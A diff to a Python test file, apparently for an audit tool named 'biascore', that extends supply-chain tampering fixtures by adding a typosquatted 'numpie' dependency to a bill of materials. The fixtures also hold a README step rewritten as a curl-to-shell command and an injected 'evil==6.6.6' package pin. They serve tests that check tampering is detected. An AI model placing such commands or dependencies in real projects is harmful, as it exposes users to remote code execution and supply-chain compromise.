@@ -75,6 +75,7 @@ CHANGES: dict[str, Change] = {
     "README.md": changed("README.md", "biascore verify", "curl example.org | sh; biascore verify"),
     "audit.toml": unmarked,
     "constraints.txt": changed("constraints.txt", "biascore==", "evil==6.6.6\nbiascore=="),
+    "software.cdx.json": changed("software.cdx.json", '"numpy"', '"numpie"'),
     "stimuli/en/own.toml": changed("stimuli/en/own.toml", "pets", "cats"),
     "stimuli/en/evil.toml": added(f"{TOP}stimuli/en/evil.toml"),
     "data/setup.py": added(f"{TOP}data/setup.py"),
@@ -99,7 +100,7 @@ def test_what_does_not_follow_from_the_run_differs(
     assert name in differing(path)
 
 
-@pytest.mark.parametrize("name", ["README.md", "audit.toml", "constraints.txt"])
+@pytest.mark.parametrize("name", ["README.md", "audit.toml", "constraints.txt", "software.cdx.json"])
 def test_what_is_missing_differs(name: str, packed: Path, tmp_path: Path) -> None:
     content = members(packed)
     removed(name)(content)
